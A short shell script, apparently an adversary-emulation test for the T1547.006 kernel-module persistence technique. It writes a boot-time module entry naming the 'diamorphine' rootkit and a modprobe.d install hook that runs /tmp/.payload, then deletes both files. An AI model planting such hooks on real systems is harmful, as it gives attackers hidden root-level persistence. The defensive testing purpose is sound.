#!/bin/sh
# T1547.006: a module loaded at every boot (modules-load.d) and a modprobe.d `install` hook that
# runs a command whenever a module is requested. Both removed.
set -e
mkdir -p /etc/modules-load.d /etc/modprobe.d
echo 'diamorphine' > /etc/modules-load.d/scn-$$.conf
echo 'install dummy /bin/sh -c "/tmp/.payload; /sbin/modprobe --ignore-install dummy"' > /etc/modprobe.d/scn-$$.conf
rm -f /etc/modules-load.d/scn-$$.conf /etc/modprobe.d/scn-$$.conf
